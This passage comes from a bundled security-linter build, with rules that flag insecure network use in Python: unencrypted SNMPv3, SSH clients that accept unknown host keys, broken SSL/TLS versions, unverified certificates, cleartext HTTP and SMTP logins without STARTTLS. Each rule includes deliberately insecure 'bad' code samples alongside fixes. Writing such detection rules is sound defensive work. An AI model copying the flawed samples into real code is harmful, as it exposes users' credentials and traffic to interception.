      cwe: 319,
      severity: "medium",
      confidence: "high",
      cost: "fast",
      message: "SNMPv3 user without privacy (encryption) or with weak protocols",
      fix: "Give UsmUserData both an auth key and a priv key, with authProtocol=usmHMACSHAAuthProtocol (or SHA-2) and privProtocol=usmAesCfb128Protocol.",
      triggers: ["UsmUserData"],
      // Every report needs callName to match …UsmUserData.
      callees: ["UsmUserData"],
      docs: {
        why: "SNMPv3 is only confidential in authPriv mode: without a privacy key (noAuthNoPriv / authNoPriv) the traffic, including community data and configuration, crosses the network in clear text. MD5 authentication and DES/3DES privacy are weak.",
        bad: [
          'from pysnmp.hlapi import UsmUserData\nauth = UsmUserData("admin", auth_key)\n',
          'from pysnmp.hlapi import UsmUserData, usmDESPrivProtocol\nauth = UsmUserData("admin", auth_key, priv_key, privProtocol=usmDESPrivProtocol)\n'
        ],
        good: ['from pysnmp.hlapi import UsmUserData, usmHMACSHAAuthProtocol, usmAesCfb128Protocol\nauth = UsmUserData("admin", auth_key, priv_key, authProtocol=usmHMACSHAAuthProtocol, privProtocol=usmAesCfb128Protocol)\n'],
        references: ["https://cwe.mitre.org/data/definitions/319.html", "https://pysnmp.readthedocs.io/en/latest/docs/api-reference.html#security-parameters"]
      },
      create(context) {
        if (!context.module.importsModule("pysnmp"))
          return {};
        const module2 = context.module;
        return {
          call(node) {
            const name = module2.callName(node);
            if (!name || !USM_USER_DATA.test(name))
              return;
            const privacyKey = argument(node, "privKey", 2);
            if (!privacyKey || privacyKey.type === "none") {
              context.report({ node, message: "SNMPv3 user without a privacy key: traffic is not encrypted" });
              return;
            }
            for (const [parameter, weak] of Object.entries(WEAK_PROTOCOLS)) {
              const keyword = keywordArgumentNode(node, parameter);
              const value = keyword?.childForFieldName("value");
              const protocol = value ? module2.qualifiedName(value)?.split(".").pop() : void 0;
              if (keyword && protocol && weak.has(protocol)) {
                context.report({ node: keyword, message: `SNMPv3 ${parameter}=${protocol} is weak` });
              }
            }
          }
        };
      }
    });
  }
});

// dist/rules/insecure-transport/ssh-no-host-key-verification.js
var TRUSTING_POLICIES, ssh_no_host_key_verification_default;
var init_ssh_no_host_key_verification = __esm({
  "dist/rules/insecure-transport/ssh-no-host-key-verification.js"() {
    "use strict";
    init_types();
    init_arguments();
    TRUSTING_POLICIES = /* @__PURE__ */ new Set(["AutoAddPolicy", "WarningPolicy"]);
    ssh_no_host_key_verification_default = defineRule({
      id: "ssh-no-host-key-verification",
      aliases: ["B507", "S507", "ssh_no_host_key_verification"],
      category: "insecure-transport",
      cwe: 295,
      severity: "high",
      confidence: "medium",
      cost: "fast",
      message: "SSH client accepts unknown host keys: the first server to answer is trusted, impostors included",
      fix: "Load known hosts (client.load_system_host_keys() / load_host_keys(path)) and keep the default RejectPolicy.",
      // The policy's resolved name ends in one of them, a word written at the call or in its import (rarer than paramiko).
      triggers: [...TRUSTING_POLICIES],
      // The call handler reports only `….set_missing_host_key_policy(…)` (calleeAttribute).
      callees: ["set_missing_host_key_policy"],
      docs: {
        why: "Host-key checking is what makes SSH resistant to a man in the middle. AutoAddPolicy silently trusts (and WarningPolicy only logs) a key never seen before, so an attacker who intercepts the connection receives the login credentials and the commands.",
        bad: [
          "import paramiko\nclient = paramiko.SSHClient()\nclient.set_missing_host_key_policy(paramiko.AutoAddPolicy())\n",
          "from paramiko import SSHClient, WarningPolicy\nclient = SSHClient()\nclient.set_missing_host_key_policy(WarningPolicy)\n"
        ],
        good: ["import paramiko\nclient = paramiko.SSHClient()\nclient.load_system_host_keys()\nclient.set_missing_host_key_policy(paramiko.RejectPolicy())\n"],
        references: ["https://docs.paramiko.org/en/stable/api/client.html", "https://cwe.mitre.org/data/definitions/295.html"]
      },
      create(context) {
        const module2 = context.module;
        if (!module2.importsLike("paramiko"))
          return {};
        return {
          call(node) {
            if (module2.calleeAttribute(node) !== "set_missing_host_key_policy")
              return;
            const policy = argument(node, "policy", 0);
            const name = policy ? module2.qualifiedName(policy)?.replace(/\(\)$/, "").split(".").pop() : void 0;
            if (name && TRUSTING_POLICIES.has(name))
              context.report({ node, message: `set_missing_host_key_policy(${name}) trusts unknown SSH host keys` });
          }
        };
      }
    });
  }
});

// dist/rules/insecure-transport/support/ssl-protocol-versions.js
function protocolName(node) {
  if (!node)
    return void 0;
  if (node.type === "identifier")
    return node.text;
  if (node.type === "attribute")
    return node.childForFieldName("attribute")?.text;
  return void 0;
}
var BAD_PROTOCOL_VERSIONS;
var init_ssl_protocol_versions = __esm({
  "dist/rules/insecure-transport/support/ssl-protocol-versions.js"() {
    "use strict";
    BAD_PROTOCOL_VERSIONS = [
      "PROTOCOL_SSLv2",
      "SSLv2_METHOD",
      "SSLv23_METHOD",
      "PROTOCOL_SSLv3",
      "PROTOCOL_TLSv1",
      "SSLv3_METHOD",
      "TLSv1_METHOD",
      "PROTOCOL_TLSv1_1",
      "TLSv1_1_METHOD"
    ];
  }
});

// dist/rules/insecure-transport/ssl-bad-defaults.js
var DEFAULTED, ssl_bad_defaults_default;
var init_ssl_bad_defaults = __esm({
  "dist/rules/insecure-transport/ssl-bad-defaults.js"() {
    "use strict";
    init_types();
    init_ssl_protocol_versions();
    DEFAULTED = /* @__PURE__ */ new Set(["default_parameter", "typed_default_parameter"]);
    ssl_bad_defaults_default = defineRule({
      id: "ssl-bad-defaults",
      aliases: ["B503", "S503", "ssl_with_bad_defaults"],
      category: "insecure-transport",
      cwe: 327,
      severity: "medium",
      confidence: "medium",
      cost: "fast",
      message: "function defaults to a broken SSL/TLS protocol version",
      fix: "Default to ssl.PROTOCOL_TLS_CLIENT (or TLS_METHOD) and let the context negotiate TLS 1.2 or newer.",
      // Bandit reads this list from its `ssl_with_bad_version` section, shared with B502.
      options: { badProtocolVersions: BAD_PROTOCOL_VERSIONS },
      // A protocol is matched by its written name: the identifier or the attribute's last segment.
      triggers: (options) => options.badProtocolVersions,
      docs: {
        why: "Every caller that does not pass its own version gets the broken protocol (SSLv2/v3, TLS 1.0/1.1) silently.",
        bad: ["import ssl\ndef connect(host, version=ssl.PROTOCOL_TLSv1):\n    pass\n"],
        good: ["import ssl\ndef connect(host, version=ssl.PROTOCOL_TLS_CLIENT):\n    pass\n"],
        references: ["https://datatracker.ietf.org/doc/html/rfc8996"]
      },
      create(context) {
        const bad = new Set(context.options.badProtocolVersions);
        const check2 = (definition) => {
          for (const parameter of definition?.childForFieldName("parameters")?.namedChildren ?? []) {
            if (!DEFAULTED.has(parameter.type))
              continue;
            const value = parameter.childForFieldName("value");
            const name = protocolName(value ?? void 0);
            if (value && name && bad.has(name))
              context.report({ node: value, message: `function defaults to the broken protocol ${name}` });
          }
        };
        return { function_definition: check2 };
      }
    });
  }
});

// dist/rules/insecure-transport/ssl-bad-version.js
var CONTEXT_CONSTRUCTORS, ssl_bad_version_default;
var init_ssl_bad_version = __esm({
  "dist/rules/insecure-transport/ssl-bad-version.js"() {
    "use strict";
    init_types();
    init_name_triggers();
    init_arguments();
    init_ssl_protocol_versions();
    CONTEXT_CONSTRUCTORS = /* @__PURE__ */ new Map([
      ["ssl.SSLContext", "protocol"],
      ["OpenSSL.SSL.Context", "method"],
      ["pyOpenSSL.SSL.Context", "method"]
    ]);
    ssl_bad_version_default = defineRule({
      id: "ssl-bad-version",
      aliases: ["B502", "S502", "ssl_with_bad_version"],
      category: "insecure-transport",
      cwe: 327,
      severity: "high",
      confidence: "high",
      cost: "fast",
      message: "SSL/TLS connection pinned to a broken protocol version (SSLv2, SSLv3, TLS 1.0 or 1.1)",
      fix: "Use ssl.create_default_context() (or PROTOCOL_TLS_CLIENT / TLS_METHOD) and set minimum_version = ssl.TLSVersion.TLSv1_2.",
      options: { badProtocolVersions: BAD_PROTOCOL_VERSIONS },
      // A protocol is matched by its written name: the identifier or the attribute's last segment.
      triggers: (options) => options.badProtocolVersions,
      // The constructors take the protocol positionally; every other report path needs `ssl_version=` or `method=`.
      callees: [...CONTEXT_CONSTRUCTORS.keys()].map(lastName),
      calleeKeywords: /^(?:ssl_version|method)$/,
      docs: {
        why: "SSLv2 and SSLv3 are broken (DROWN, POODLE) and TLS 1.0/1.1 are deprecated (RFC 8996): a connection pinned to them can be downgraded or decrypted.",
        bad: [
          "import ssl\nsock = ssl.wrap_socket(raw, ssl_version=ssl.PROTOCOL_TLSv1)\n",
          "import ssl\ncontext = ssl.SSLContext(ssl.PROTOCOL_SSLv3)\n",
          "from OpenSSL import SSL\ncontext = SSL.Context(method=SSL.SSLv3_METHOD)\n"
        ],
        good: [
          "import ssl\ncontext = ssl.create_default_context()\ncontext.minimum_version = ssl.TLSVersion.TLSv1_2\n",
          "import ssl\ncontext = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)\n"
        ],
        references: ["https://datatracker.ietf.org/doc/html/rfc8996", "https://docs.python.org/3/library/ssl.html#security-considerations"]
      },
      create(context) {
        const bad = new Set(context.options.badProtocolVersions);
        const isBad = (node) => {
          const name = protocolName(node);
          return name !== void 0 && bad.has(name);
        };
        const keywordAt = (call, name) => {
          const keyword = keywordArgumentNode(call, name);
          return keyword && isBad(keyword.childForFieldName("value") ?? void 0) ? keyword : void 0;
        };
        return {
          call(node) {
            const name = context.module.callName(node);
            let report;
            if (name === "ssl.wrap_socket") {
              const at = keywordAt(node, "ssl_version");
              if (at)
                report = { node: at, message: "ssl.wrap_socket() with a broken SSL/TLS protocol version" };
            } else if (name !== void 0 && CONTEXT_CONSTRUCTORS.has(name)) {
              const protocol = argument(node, CONTEXT_CONSTRUCTORS.get(name), 0);
              if (isBad(protocol))
                report = { node: protocol.parent?.type === "keyword_argument" ? protocol.parent : protocol, message: `${name}() with a broken SSL/TLS protocol version` };
            } else {
              const at = keywordAt(node, "method") ?? keywordAt(node, "ssl_version");
              if (at)
                report = { node: at, severity: "medium", confidence: "medium", message: "call with a broken SSL/TLS protocol version" };
            }
            if (report)
              context.report(report);
          }
        };
      }
    });
  }
});

// dist/rules/insecure-transport/ssl-no-version.js
var ssl_no_version_default;
var init_ssl_no_version = __esm({
  "dist/rules/insecure-transport/ssl-no-version.js"() {
    "use strict";
    init_types();
    init_arguments();
    ssl_no_version_default = defineRule({
      id: "ssl-no-version",
      aliases: ["B504", "S504", "ssl_with_no_version"],
      category: "insecure-transport",
      cwe: 327,
      severity: "low",
      confidence: "medium",
      cost: "fast",
      message: "ssl.wrap_socket() without ssl_version: the protocol depends on the Python and OpenSSL in use",
      fix: "Use ssl.create_default_context().wrap_socket(sock, server_hostname=host); ssl.wrap_socket() is deprecated and gone in Python 3.12.",
      triggers: ["wrap_socket"],
      callees: ["wrap_socket"],
      docs: {
        why: "ssl.wrap_socket() neither verifies certificates nor checks host names by default, and without ssl_version its protocol choice varies between versions, possibly allowing SSLv3/TLS 1.0.",
        bad: ["import ssl\nsock = ssl.wrap_socket(raw)\n"],
        good: ["import ssl\nsock = ssl.create_default_context().wrap_socket(raw, server_hostname=host)\n"],
        references: ["https://docs.python.org/3.11/library/ssl.html#ssl.wrap_socket"]
      },
      create(context) {
        if (!context.module.importsModule("ssl"))
          return {};
        return {
          call(node) {
            if (context.module.callName(node) !== "ssl.wrap_socket")
              return;
            if (argument(node, "ssl_version", 5))
              return;
            context.report({ node });
          }
        };
      }
    });
  }
});

// dist/rules/insecure-transport/unverified-ssl-context.js
var UNVERIFIED, CERT_REQS_POSITION, unverified_ssl_context_default;
var init_unverified_ssl_context = __esm({
  "dist/rules/insecure-transport/unverified-ssl-context.js"() {
    "use strict";
    init_types();
    init_name_triggers();
    init_arguments();
    UNVERIFIED = /* @__PURE__ */ new Set(["ssl._create_unverified_context", "ssl._create_stdlib_context"]);
    CERT_REQS_POSITION = 4;
    unverified_ssl_context_default = defineRule({
      id: "unverified-ssl-context",
      aliases: ["B323", "S323", "unverified_context"],
      category: "insecure-transport",
      cwe: 295,
      severity: "medium",
      confidence: "high",
      cost: "fast",
      message: "ssl._create_unverified_context() accepts any certificate for any host",
      fix: "Use ssl.create_default_context(); for a private CA, load it with cafile=.",
      triggers: [...[...UNVERIFIED].map(lastName), "CERT_NONE", "check_hostname"],
      // The call handler reports only the unverified factories and ssl.wrap_socket().
      callees: [...[...UNVERIFIED].map(lastName), "wrap_socket"],
      docs: {
        // Installing it as the process-wide default (`ssl._create_default_https_context = …`) is ssl-default-context-unverified.
        why: "An unverified context does not check the certificate chain or the host name, so a man in the middle can read and alter the traffic; `verify_mode = ssl.CERT_NONE` and `cert_reqs=ssl.CERT_NONE` do the same to a context or socket, and `check_hostname = False` accepts a valid certificate issued for any other host. `check_hostname = False` followed by `verify_mode = ssl.CERT_NONE` (Python requires that order) is one finding, at the CERT_NONE line. Turning every check off (an unverified context, CERT_NONE) is high severity, like requests' verify=False; check_hostname = False alone is medium.",
        bad: [
          "import ssl, urllib.request\nurllib.request.urlopen(url, context=ssl._create_unverified_context())\n",
          "import ssl\ncontext = ssl.create_default_context()\ncontext.check_hostname = False\ncontext.verify_mode = ssl.CERT_NONE\n",
          "import ssl\ndef connect(sock, host):\n    context = ssl.create_default_context()\n    context.check_hostname = False\n    return context.wrap_socket(sock, server_hostname=host)\n"
        ],
        good: [
          'import ssl\ncontext = ssl.create_default_context(cafile="/etc/ssl/private-ca.pem")\n',
          "import ssl\ncontext = ssl.create_default_context()\ncontext.check_hostname = True\n"
        ],
        references: ["https://peps.python.org/pep-0476/", "https://cwe.mitre.org/data/definitions/295.html"]
      },
      create(context) {
        if (!context.module.importsModule("ssl"))
          return {};
        const module2 = context.module;
        const isCertNone = (node) => !!node && module2.qualifiedName(node) === "ssl.CERT_NONE";
        const certNoneFollows = (assignment) => (module2.functionAt(assignment) ?? module2.root).descendantsOfType("assignment").some((other) => other.childForFieldName("left")?.childForFieldName("attribute")?.text === "verify_mode" && isCertNone(other.childForFieldName("right")));
        return {
          call(node) {
            const name = module2.callName(node);
            if (name !== void 0 && UNVERIFIED.has(name)) {
              context.report({ node, severity: "high", message: `${name}() accepts any certificate for any host` });
              return;
            }
            if (name === "ssl.wrap_socket") {
              const keyword = keywordArgumentNode(node, "cert_reqs");
              const value = keyword ? keyword.childForFieldName("value") : argument(node, null, CERT_REQS_POSITION);
              if (isCertNone(value))
                context.report({ node: keyword ?? value, severity: "high", message: "ssl.wrap_socket() with cert_reqs=ssl.CERT_NONE accepts any certificate" });
            }
          },
          // `context.verify_mode = ssl.CERT_NONE`; `context.check_hostname = False`
          assignment(node) {
            const target = node.childForFieldName("left");
            const attribute = target?.type === "attribute" ? target.childForFieldName("attribute")?.text : void 0;
            const value = node.childForFieldName("right");
            if (attribute === "verify_mode" && isCertNone(value))
              context.report({ node, severity: "high", message: "verify_mode = ssl.CERT_NONE accepts any certificate" });
            if (attribute === "check_hostname" && value && module2.constant(value) === false && !certNoneFollows(node)) {
              context.report({ node, message: "check_hostname = False accepts a certificate issued for any other host" });
            }
          }
        };
      }
    });
  }
});

// dist/rules/insecure-transport/support/cleartext-urls.js
function hostKind(host) {
  const name = host.toLowerCase().replace(/\.$/, "");
  if (LOCAL_NAMES.has(name) || LOCAL_ADDRESS.test(name) || LOCAL_SUFFIXES.some((suffix) => endsWithDomain(name, suffix)))
    return "local";
  if (PRIVATE_ADDRESS.test(name))
    return "private";
  return RESERVED_SUFFIXES.some((suffix) => endsWithDomain(name, suffix)) ? "placeholder" : "remote";
}
function cleartextUrl(text) {
  const match = /^\s*([a-z]+):\/\//i.exec(text);
  if (!match)
    return void 0;
  const scheme = match[1].toLowerCase();
  if (!(scheme in CLEARTEXT_SCHEMES))
    return void 0;
  const rest = text.slice(match[0].length);
  const authority = rest.split(/[/?#]/, 1)[0];
  const at = authority.lastIndexOf("@");
  const userinfo = at >= 0 ? authority.slice(0, at) : "";
  const hostPort = at >= 0 ? authority.slice(at + 1) : authority;
  const host = hostPort.startsWith("[") ? hostPort.slice(0, hostPort.indexOf("]") + 1) : hostPort.split(":", 1)[0];
  const known = host !== "" && !host.includes(HOLE);
  const kind = known ? hostKind(host) : "remote";
  if (kind === "local")
    return void 0;
  let credentials;
  if (userinfo.includes(":"))
    credentials = "a user and password in the URL";
  else if (SECRET_QUERY.test(rest))
    credentials = "a secret in the query string";
  return { scheme, host: known ? host : void 0, credentials, placeholder: kind === "placeholder", privateNetwork: kind === "private" };
}
var CLEARTEXT_SCHEMES, LOCAL_NAMES, LOCAL_SUFFIXES, RESERVED_SUFFIXES, PRIVATE_ADDRESS, LOCAL_ADDRESS, SECRET_QUERY, endsWithDomain;
var init_cleartext_urls = __esm({
  "dist/rules/insecure-transport/support/cleartext-urls.js"() {
    "use strict";
    init_literals();
    CLEARTEXT_SCHEMES = { http: "http://", ftp: "ftp://", ws: "ws://" };
    LOCAL_NAMES = /* @__PURE__ */ new Set(["localhost", "ip6-localhost", "ip6-loopback", "testserver", "0.0.0.0", "::1", "[::1]"]);
    LOCAL_SUFFIXES = [".localhost", ".local", ".localdomain", ".home.arpa", ".internal"];
    RESERVED_SUFFIXES = [".test", ".example", ".invalid"];
    PRIVATE_ADDRESS = /^(?:10\.\d{1,3}|172\.(?:1[6-9]|2\d|3[01])|192\.168)\.\d{1,3}\.\d{1,3}$/;
    LOCAL_ADDRESS = /^(?:127\.\d{1,3}\.\d{1,3}\.\d{1,3}|169\.254\.\d{1,3}\.\d{1,3})$/;
    SECRET_QUERY = /[?&](?:password|passwd|pwd|token|access_token|api_?key|apikey|secret|client_secret)=/i;
    endsWithDomain = (name, suffix) => name === suffix.replace(/^\./, "") || name.endsWith(suffix.startsWith(".") ? suffix : `.${suffix}`);
  }
});

// dist/rules/insecure-transport/cleartext-http-request.js
function dictionaryOf(node, module2) {
  if (node.type === "dictionary")
    return node;
  if (node.type !== "identifier")
    return void 0;
  const values = module2.valuesOf(node);
  return values?.length === 1 && values[0].type === "dictionary" ? values[0] : void 0;
}
function credentialsOf(call, module2, name) {
  for (const keyword of CREDENTIAL_KEYWORDS) {
    const value = argument(call, keyword, null);
    if (value && module2.constant(value) !== null)
      return `${keyword}=`;
  }
  const urllibRequest = name.endsWith(".Request");
  for (const [keyword, position] of MAPPING_KEYWORDS) {
    const value = argument(call, keyword, urllibRequest ? position : null);
    const dictionary = value ? dictionaryOf(value, module2) : void 0;
    for (const pair of dictionary?.namedChildren ?? []) {
      const key = pair.type === "pair" ? pair.childForFieldName("key") : null;
      const text = key ? module2.constant(key) : void 0;
      if (typeof text === "string" && SECRET_KEY.test(text))
        return `the '${text}' ${keyword === "headers" ? "header" : "field"}`;
    }
  }
  return void 0;
}
function leadingPart(url) {
  if (url.type === "binary_operator")
    return leadingPart(url.childForFieldName("left") ?? url);
  if (url.type === "parenthesized_expression" && url.firstNamedChild)
    return leadingPart(url.firstNamedChild);
  if (url.type === "string") {
    const first = url.namedChildren.find((child) => child.type !== "string_start");
    if (first?.type === "interpolation")
      return leadingPart(first.childForFieldName("expression") ?? first);
  }
  return url;
}
function classAttributeText(node, module2) {
  if (node.type !== "attribute")
    return void 0;
  const owner = node.childForFieldName("object")?.text;
  const name = node.childForFieldName("attribute")?.text;
  const cls = enclosingClass(node);
  if (!owner || !name || !cls || !(owner === "self" || owner === "cls" || owner === cls.childForFieldName("name")?.text))
    return void 0;
  const values = cls.descendantsOfType("assignment").filter((assignment) => {
    const left = assignment.childForFieldName("left");
    if (left?.type === "identifier")
      return left.text === name && enclosingFunction(assignment) === null;
    return left?.type === "attribute" && left.childForFieldName("object")?.text === "self" && left.childForFieldName("attribute")?.text === name;
  }).map((assignment) => assignment.childForFieldName("right"));
  const value = values.length === 1 && values[0] ? module2.constant(values[0]) : void 0;
  return typeof value === "string" ? value : void 0;
}
var FIRST, AFTER_METHOD, VERBS3, verbs, methods, REQUESTS, HTTPX, AIOHTTP, AIOHTTP_URL, OPENERS, CLIENT_CALLS, CLEARTEXT_CONNECTIONS, BASE_URL_CLIENTS, CLEARTEXT_LITERAL, CLIENT_LIBRARIES, LOOSE_METHODS, CREDENTIAL_KEYWORDS, MAPPING_KEYWORDS, SECRET_KEY, cleartext_http_request_default;
var init_cleartext_http_request = __esm({
  "dist/rules/insecure-transport/cleartext-http-request.js"() {
    "use strict";
    init_types();
    init_name_triggers();
    init_arguments();
    init_syntax();
    init_context_managers();
    init_cleartext_urls();
    FIRST = { keyword: "url", position: 0 };
    AFTER_METHOD = { keyword: "url", position: 1 };
    VERBS3 = ["get", "options", "head", "post", "put", "patch", "delete"];
    verbs = (receivers, parameter) => receivers.flatMap((receiver) => VERBS3.map((verb) => [`${receiver}.${verb}`, parameter]));
    methods = (receivers, names, parameter) => receivers.flatMap((receiver) => names.map((name) => [`${receiver}.${name}`, parameter]));
    REQUESTS = ["requests", "requests.api", "requests.Session()", "requests.session()", "requests.sessions.Session()", "requests.sessions.session()"];
    HTTPX = ["httpx", "httpx.Client()", "httpx.AsyncClient()"];
    AIOHTTP = ["aiohttp.ClientSession()", "aiohttp.client.ClientSession()"];
    AIOHTTP_URL = { keyword: "str_or_url", position: 0 };
    OPENERS = ["urllib.request.URLopener()", "urllib.request.FancyURLopener()", "urllib.request.OpenerDirector()", "urllib.request.build_opener()", "urllib2.build_opener()", "urllib.URLopener()", "urllib.FancyURLopener()"];
    CLIENT_CALLS = new Map([
      ...verbs([...REQUESTS, ...HTTPX], FIRST),
      ...methods([...REQUESTS, ...HTTPX], ["request"], AFTER_METHOD),
      ...methods(HTTPX, ["stream"], AFTER_METHOD),
      ...verbs(AIOHTTP, AIOHTTP_URL),
      ...methods(AIOHTTP, ["request"], { keyword: "str_or_url", position: 1 }),
      ...methods(AIOHTTP, ["ws_connect"], FIRST),
      ["aiohttp.request", AFTER_METHOD],
      ...methods(["urllib.request", "urllib2", "urllib"], ["urlopen", "urlretrieve"], FIRST),
      ["urllib.request.Request", FIRST],
      ["urllib2.Request", FIRST],
      ...methods(OPENERS, ["open", "retrieve"], { keyword: "fullurl", position: 0 }),
      ...methods(["urllib3.PoolManager()", "urllib3.poolmanager.PoolManager()", "urllib3"], ["request", "urlopen"], AFTER_METHOD),
      ...methods(["websocket", "websocket.WebSocket()"], ["create_connection", "WebSocketApp", "connect"], FIRST),
      ...methods(["websockets", "websockets.client", "websockets.sync.client"], ["connect"], { keyword: "uri", position: 0 }),
      ["xmlrpc.client.ServerProxy", { keyword: "uri", position: 0 }],
      ["xmlrpclib.ServerProxy", { keyword: "uri", position: 0 }]
    ]);
    CLEARTEXT_CONNECTIONS = /* @__PURE__ */ new Map([
      ["http.client.HTTPConnection", { keyword: "host", position: 0 }],
      ["httplib.HTTPConnection", { keyword: "host", position: 0 }]
    ]);
    BASE_URL_CLIENTS = /* @__PURE__ */ new Map([
      ["httpx.Client", { keyword: "base_url", position: null }],
      ["httpx.AsyncClient", { keyword: "base_url", position: null }],
      ["aiohttp.ClientSession", { keyword: "base_url", position: 0 }]
    ]);
    CLEARTEXT_LITERAL = /['"](?:http|ftp|ws)(?::\/\/|['"])/i;
    CLIENT_LIBRARIES = ["requests", "httpx", "aiohttp"];
    LOOSE_METHODS = new Map([...VERBS3.map((verb) => [verb, FIRST]), ["request", AFTER_METHOD]]);
    CREDENTIAL_KEYWORDS = ["auth", "cookies"];
    MAPPING_KEYWORDS = [["headers", 2], ["data", 1], ["json", null], ["params", null]];
    SECRET_KEY = /^(?:authorization|proxy-authorization|cookie|x-[\w-]*(?:token|key|auth)[\w-]*|[\w-]*(?:api[-_]?key|apikey|token|password|passwd|secret)[\w-]*)$/i;
    cleartext_http_request_default = defineRule({
      id: "cleartext-http-request",
      // Semgrep's request-with-http, request-session-with-http, insecure-urlopen, insecure-request-object,
      // insecure-urlretrieve, insecure-urlopener-open and insecure-openerdirector-open; their ids are not alias-shaped.
      aliases: [],
      category: "insecure-transport",
      cwe: 319,
      severity: "medium",
      confidence: "high",
      cost: "fast",
      message: "request sent over cleartext http://: anyone on the network path can read and change it",
      fix: "Use https:// (wss:// for websockets, FTPS/SFTP for files); keep http:// only for loopback and test servers.",
      // HTTPConnection needs no scheme in the call.
      triggers: [CLEARTEXT_LITERAL, "HTTPConnection"],
      callees: [...new Set([...CLIENT_CALLS.keys(), ...BASE_URL_CLIENTS.keys(), ...CLEARTEXT_CONNECTIONS.keys()].map(lastName))],
      docs: {
        why: 'A URL with http://, ftp:// or ws:// sends the request and receives the answer unencrypted: anyone on the network path (shared Wi-Fi, a compromised router, the hosting provider) can read it and change the response, so downloaded code, data and redirects cannot be trusted. A URL written in the code to a public host is high severity and blocks (medium confidence: the payload may be signed end to end); when credentials ride along (auth=, an Authorization or API-key header, cookies, a password field, user:password in the URL) they are disclosed to every observer: high confidence. A URL whose host is only known at run time, or a private-network address (10/8, 172.16/12, 192.168/16), is medium severity and does not block. A verb on an unresolved object (`self.session.get("http://\u2026")`) in a module importing requests, httpx or aiohttp counts at medium confidence. Loopback, localhost, link-local metadata services (169.254.169.254) and *.local/*.internal hosts are not reported; reserved test domains (*.test, *.example, *.invalid), which never resolve, stand for a real host and are reported at low confidence, which never blocks (example.com does resolve, so it counts as a public host); in test code the policy lowers every finding one level, so test URLs never block.',
        bad: [
          'import requests\ndef fetch_rates():\n    return requests.get("http://api.exchangerates.io/latest", timeout=10).json()\n',
          'import requests\ndef login(user, password):\n    return requests.post("http://accounts.partner.io/login", auth=(user, password), timeout=10)\n',
          'import urllib.request\nBASE = "http://mirror.company.net"\ndef download(name):\n    return urllib.request.urlopen(BASE + "/pkgs/" + name).read()\n',
          'import httpx\nasync def stream(token):\n    async with httpx.AsyncClient() as client:\n        return await client.get("http://feed.vendor.io/v1", headers={"Authorization": f"Bearer {token}"})\n'
        ],
        good: [
          'import requests\ndef fetch_rates():\n    return requests.get("https://api.exchangerates.io/latest", timeout=10).json()\n',
          'import requests\ndef health():\n    return requests.get("http://localhost:8080/health", timeout=2).ok\n',
          'import requests\ndef cluster_health():\n    return requests.get("http://elasticsearch.internal:9200/_cluster/health", timeout=2).ok\n',
          'import urllib.request\ndef metadata():\n    return urllib.request.urlopen("http://169.254.169.254/latest/meta-data/").read()\n',
          "import requests\ndef fetch(url):\n    return requests.get(url, timeout=10)  # the scheme is the caller's choice\n"
        ],
        references: ["https://cwe.mitre.org/data/definitions/319.html", "https://cheatsheetseries.owasp.org/cheatsheets/Transport_Layer_Security_Cheat_Sheet.html"]
      },
      create(context) {
        const { module: module2 } = context;
        const usesClientLibrary = CLIENT_LIBRARIES.some((library) => module2.importsModule(library));
        const check2 = (call, name, url, written, confidence = "high") => {
          const text = written ?? (url ? classAttributeText(leadingPart(url), module2) ?? module2.fold(url)?.text : void 0);
          const found = text === void 0 ? void 0 : cleartextUrl(text);
          if (!url || !found)
            return;
          const scheme = CLEARTEXT_SCHEMES[found.scheme];
          const where = found.host ? ` to ${found.host}` : "";
          const credentials = found.credentials ?? credentialsOf(call, module2, name);
          let severity = "medium";
          let message = `${lastName(name)}() sends its request${where} over cleartext ${scheme}: anyone on the network path can read and change it`;
          if (credentials) {
            severity = "high";
            message = `${lastName(name)}() sends credentials (${credentials}) over cleartext ${scheme}${where}: every observer on the network path can read them`;
          } else if (found.host && !found.privateNetwork && !found.placeholder) {
            severity = "high";
            confidence = confidence === "high" ? "medium" : confidence;
          } else if (found.privateNetwork) {
            message += " (not blocking: a private-network address)";
          }
          context.report({ node: url, severity, confidence: found.placeholder ? "low" : confidence, message });
        };
        return {
          call(node) {
            const name = callNameThroughWith(node, module2) ?? node.childForFieldName("function")?.text ?? "";
            const parameter = CLIENT_CALLS.get(name);
            if (parameter) {
              check2(node, name, argument(node, parameter.keyword, parameter.position));
              return;
            }
            const base = BASE_URL_CLIENTS.get(name);
            if (base) {
              check2(node, name, argument(node, base.keyword, base.position));
              return;
            }
            const connection = CLEARTEXT_CONNECTIONS.get(name);
            const host = connection ? argument(node, connection.keyword, connection.position) : void 0;
            const hostName = host ? module2.constant(host) : void 0;
            if (host && typeof hostName === "string") {
              check2(node, name, host, `http://${hostName}`);
              return;
            }
            const callee = node.childForFieldName("function");
            const loose = usesClientLibrary && callee?.type === "attribute" ? LOOSE_METHODS.get(callee.childForFieldName("attribute")?.text ?? "") : void 0;
            const url = loose ? argument(node, loose.keyword, loose.position) : void 0;
            if (url && (url.type === "string" || url.type === "concatenated_string" || url.type === "binary_operator"))
              check2(node, name, url, void 0, "medium");
          }
        };
      }
    });
  }
});

// dist/rules/insecure-transport/smtp-login-without-starttls.js
var CLEARTEXT_CLIENTS, LOGINS, smtp_login_without_starttls_default;
var init_smtp_login_without_starttls = __esm({
  "dist/rules/insecure-transport/smtp-login-without-starttls.js"() {
    "use strict";
    init_types();
    init_arguments();
    init_cleartext_urls();
    init_context_managers();
    CLEARTEXT_CLIENTS = /* @__PURE__ */ new Set(["smtplib.SMTP", "smtplib.LMTP"]);
    LOGINS = new Set([...CLEARTEXT_CLIENTS].map((client) => `${client}().login`));
    smtp_login_without_starttls_default = defineRule({
      id: "smtp-login-without-starttls",
      aliases: [],
      category: "insecure-transport",
      cwe: 319,
      severity: "high",
      confidence: "medium",
      cost: "fast",
      message: "SMTP login without starttls(): the password crosses the network in cleartext",
      fix: "Call server.starttls(context=ssl.create_default_context()) before login(), or connect with smtplib.SMTP_SSL.",
      triggers: [["smtplib", "login"]],
      callees: ["login"],
      // Also `self.server.login(...)` when `self.server = smtplib.SMTP(...)` in the same module.
      docs: {
        why: "smtplib.SMTP connects in cleartext; AUTH PLAIN and LOGIN only base64-encode the password, so login() before starttls() hands the mail account to anyone on the network path. It blocks (high severity) because the credential is disclosed on every run; confidence is medium because the server may be a relay on the same host known only from configuration. A login to localhost, or in a function that calls starttls() at all (even conditionally), is not reported; one to a documentation host (smtp.example.com) is reported at low confidence and never blocks.",
        bad: [
